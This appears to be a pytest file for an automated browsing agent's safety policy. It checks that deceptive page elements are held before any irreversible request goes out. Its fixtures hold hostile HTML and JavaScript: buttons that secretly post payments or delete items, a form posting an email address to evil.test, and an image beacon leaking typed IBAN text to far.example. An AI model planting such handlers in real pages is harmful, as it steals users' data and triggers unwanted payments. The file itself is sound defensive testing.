"""Pages whose buttons say one thing and do another: nothing irreversible leaves unasked, whatever was pressed."""

from __future__ import annotations

import pytest

from deskhand.core.acts import Click
from deskhand.core.targets import Covers
from deskhand.core.verdicts import Touch
from deskhand.desk.base import ElementQuery
from deskhand.policy.requests import covers_of, touch_of_request
from tests.desk.requests.conftest import Rig

pytestmark = [pytest.mark.desk, pytest.mark.asyncio(loop_scope="session")]

_CARD = "body: new URLSearchParams({card_number: '4111 1111 1111 1111', amount: '99.00', currency: 'EUR'})"


async def test_a_harmless_label_that_posts_a_payment(rig: Rig) -> None:
    await rig.show(f"<button onclick=\"fetch('/pay', {{method: 'POST', {_CARD}}})\">Next</button>")
    report = await rig.click("Next", covers_of(Touch(classes=("move",), host="shop.test")))
    (held,) = report.held or await rig.holds()
    touch = touch_of_request(held)
    assert touch.classes == ("pay",)
    assert (touch.amount, touch.currency) == (99.0, "EUR")
    assert touch.values["card_number"] == "•••• 1111"
    assert held.of_act
    assert not rig.site.changes()


async def test_a_save_that_was_allowed_does_not_cover_the_payment_that_it_turns_out_to_be(rig: Rig) -> None:
    await rig.show(f"<button onclick=\"fetch('/next', {{method: 'POST', {_CARD}}})\">Save</button>")
    await rig.click("Save", covers_of(Touch(classes=("submit",), host="shop.test")))
    (held,) = await rig.holds()
    assert touch_of_request(held).classes == ("pay",)
    assert not rig.site.changes()


async def test_a_payment_that_was_allowed_leaves_without_another_question(rig: Rig) -> None:
    await rig.show(f"<button onclick=\"fetch('/pay', {{method: 'POST', {_CARD}}})\">Pay 99.00 EUR</button>")
    report = await rig.click("Pay", covers_of(Touch(classes=("pay",), host="shop.test")))
    await rig.arrives("/pay")
    assert report.held == ()


async def test_what_was_allowed_is_over_when_the_next_act_begins(rig: Rig) -> None:
    await rig.show("<button onclick=\"fetch('/save', {method: 'POST'})\">Save</button><button onclick=\"fetch('/more',"
                   " {method: 'POST'})\">More</button>")  # fmt: skip
    await rig.click("Save", Covers(hosts=("shop.test",)))
    await rig.arrives("/save")
    await rig.click("More")
    await rig.holds()
    assert not rig.site.got("/more")


async def test_a_page_that_posts_as_it_loads(rig: Rig) -> None:
    await rig.show("<script>fetch('/transfer', {method: 'POST', body: 'amount=5&to=x'})</script>")
    (held,) = await rig.holds()
    assert touch_of_request(held).classes[0] == "pay"
    assert not rig.site.changes()


async def test_what_the_next_page_sends_as_it_loads_was_not_set_off_by_the_click_that_led_to_it(rig: Rig) -> None:
    """It may be called what only sets a mark: that makes a request lighter behind an act alone."""
    rig.site.pages["/letter"] = "<h1>Letter</h1><script>fetch('/seen/4', {method: 'POST'})</script>"
    await rig.show("<a href=/letter>A letter</a>")
    await rig.click("A letter", covers_of(Touch(classes=("visit_known",), host="shop.test")))
    (held,) = await rig.holds()
    assert not held.of_act and touch_of_request(held).undo is not True
    assert not rig.site.changes()


async def test_a_form_that_sends_itself_to_another_site(rig: Rig) -> None:
    await rig.show(
        "<form id=f method=post action=http://evil.test/take><input name=mail value=ann@home.test></form>"
        "<button onclick=f.submit()>Show more</button>"
    )
    await rig.click("Show more", covers_of(Touch(classes=("move",), host="shop.test")))
    (held,) = await rig.holds()
    touch = touch_of_request(held)
    assert "take_out" in touch.classes
    assert (touch.host, touch.sends_to) == ("shop.test", "evil.test")
    assert not rig.site.changes()


async def test_a_link_whose_handler_deletes(rig: Rig) -> None:
    await rig.show(
        "<a href='#details' onclick=\"fetch('/items/7', {method: 'DELETE', keepalive: true})\">Details of item 7</a>"
    )
    await rig.click(
        "Details", covers_of(Touch(classes=("visit_known",), host="shop.test", address="http://shop.test/"))
    )
    (held,) = await rig.holds()
    assert touch_of_request(held).classes == ("delete",)
    assert not rig.site.changes()


async def test_a_button_swapped_under_the_pointer_sends_nothing_more_than_was_allowed(rig: Rig) -> None:
    await rig.show(
        "<button id=b>Search</button><script>b.onmousedown = () => { b.textContent = 'Search';"
        " b.onclick = () => fetch('http://evil.test/orders', {method: 'POST', mode: 'no-cors', body: 'n=1'}) }</script>"
    )
    found = await rig.desk.elements(ElementQuery(find="Search", text=False))
    box = found.elements[0].box
    await rig.desk.act(Click(at=(box.center.x, box.center.y)), covers=Covers(hosts=("shop.test",), classes=("submit",)))
    (held,) = await rig.holds()
    assert held.host == "evil.test"
    assert not rig.site.changes()


async def test_typed_words_do_not_ride_along_in_the_address_of_a_picture(rig: Rig) -> None:
    await rig.show("<input aria-label=Note><button onclick=\"new Image().src = 'http://far.example/p.gif?d='"
                   " + btoa(document.querySelector('input').value)\">Next</button>")  # fmt: skip
    await rig.type_into("Note", "IBAN DE02 1203 0000 0000 2020 51")
    await rig.click("Next")
    (held,) = await rig.holds()
    assert held.host == "far.example"
    assert "take_out" in touch_of_request(held).classes
